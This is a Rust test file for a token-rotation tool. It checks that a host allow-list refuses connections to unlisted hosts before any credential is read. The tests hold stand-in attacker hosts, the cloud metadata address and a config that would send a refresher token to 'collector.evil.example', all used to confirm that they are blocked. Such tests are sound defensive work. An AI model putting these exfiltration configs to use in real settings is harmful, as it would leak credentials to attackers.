//! Somebody who may edit the config, and not the variables of the job.

use crate::stage::{CONFIG, Ran, Stage};

/// The host and port of an address.
fn host(url: &str) -> String {
    url.trim_start_matches("http://").trim_end_matches('/').to_owned()
}

/// The usual stage, where only the usual hosts are allowed.
fn guarded() -> Stage {
    let mut stage = Stage::set();
    let hosts = format!("{},{}", host(&stage.served.gitlab), host(&stage.served.styra));
    stage.environment.insert("TOKENWHEEL_ALLOWED_HOSTS".to_owned(), hosts);
    stage
}

/// Holds against a run that nobody was asked anything.
fn asked_nobody(stage: &Stage, ran: &Ran) {
    assert_eq!(ran.code, Some(2), "{ran}");
    let exchanges = stage.sandbox.exchanges();
    assert!(exchanges.is_empty(), "{} requests were sent:\n{ran}", exchanges.len());
}

#[test]
fn the_hosts_that_are_allowed_are_used_as_ever() {
    assert_eq!(guarded().run(&["rotate"]).code, Some(0));
}

#[test]
fn a_connection_to_another_host_is_refused_before_its_credential_is_read() {
    let stage = guarded();
    for url in ["https://evil.example", "https://gitlab.example.com.evil.example", "https://169.254.169.254"] {
        stage.write(&CONFIG.replace("{gitlab}", url));
        let ran = stage.run_in_vain(&["rotate"]);
        asked_nobody(&stage, &ran);
        let name = url.trim_start_matches("https://");
        let told = format!("connection `gitlab`: {name} is not among the hosts of TOKENWHEEL_ALLOWED_HOSTS");
        assert!(ran.err.contains(&told), "{ran}");
    }
}

#[test]
fn the_same_host_on_another_port_is_another_server() {
    let stage = guarded();
    stage.write(&CONFIG.replace("{gitlab}", "http://127.0.0.1:9"));
    let ran = stage.run_in_vain(&["plan"]);
    asked_nobody(&stage, &ran);
}

/// The merge request adds a server of its own, to which it would log in with our refresher, and a place there for a token.
#[test]
fn a_destination_at_a_new_host_gets_nothing() {
    let stage = guarded();
    let url = "https://collector.evil.example";
    let more = format!("connections:\n  mine: {{ service: http, url: \"{url}\", token: env:GITLAB_REFRESHER }}\n");
    let write = "{ method: PUT, path: /x, json: { value: \"{value}\" } }";
    let place = format!("      - {{ kind: http/request, write: {write} }}\n");
    let own = "      - { kind: gitlab/ci-variable, project: acme/app, key: DEPLOY_TOKEN }\n";
    stage.write(&CONFIG.replace("connections:\n", &more).replace(own, &format!("{own}{place}")));
    let ran = stage.run_in_vain(&["rotate"]);
    asked_nobody(&stage, &ran);
    assert!(ran.err.contains("connection `mine`: collector.evil.example is not among the hosts"), "{ran}");
}

#[test]
fn a_list_that_cannot_be_read_allows_nothing() {
    let mut stage = guarded();
    for list in ["*", "https://gitlab.example.com", "gitlab.example.com:https"] {
        stage.environment.insert("TOKENWHEEL_ALLOWED_HOSTS".to_owned(), list.to_owned());
        let ran = stage.run_in_vain(&["rotate"]);
        asked_nobody(&stage, &ran);
        assert!(ran.err.contains("the variable TOKENWHEEL_ALLOWED_HOSTS"), "{ran}");
    }
}
